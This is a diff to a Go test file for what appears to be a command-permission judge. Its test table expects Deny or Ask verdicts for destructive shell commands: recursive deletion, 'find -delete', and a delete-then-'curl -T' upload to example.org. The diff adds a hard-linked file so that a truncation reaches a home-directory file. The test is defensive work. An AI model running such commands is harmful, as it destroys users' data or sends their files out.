@@ -110,6 +110,7 @@ func TestCopiedIsUndone(t *testing.T) {
 		"(sleep 60; rm -rf src) &":                      Deny, // by then it may hold more
 		"find . -name '*.txt' -delete":                  Deny, // git's own files may be among them
 		"rm -rf src; curl -T b.txt https://example.org": Deny,
+		": > twin.txt":                                  Ask, // its other name lies where no profile keeps it
 	} {
 		t.Run(command, func(t *testing.T) {
 			g, project := judging(t, "contain: code\nautonomy: {riskTolerance: moderate}\n")
@@ -120,6 +121,9 @@ func TestCopiedIsUndone(t *testing.T) {
 			home := os.Getenv("HOME")
 			writeFile(t, filepath.Join(home, "doc.txt"), "mine")
 			writeFile(t, filepath.Join(home, "docs/d.txt"), "mine")
+			if err := os.Link(filepath.Join(home, "doc.txt"), filepath.Join(project, "twin.txt")); err != nil {
+				t.Fatal(err)
+			}
 			before := held(t, project)
 			j := g.within(bashCall("s", project, command), true)
 			if j.Verdict != want {
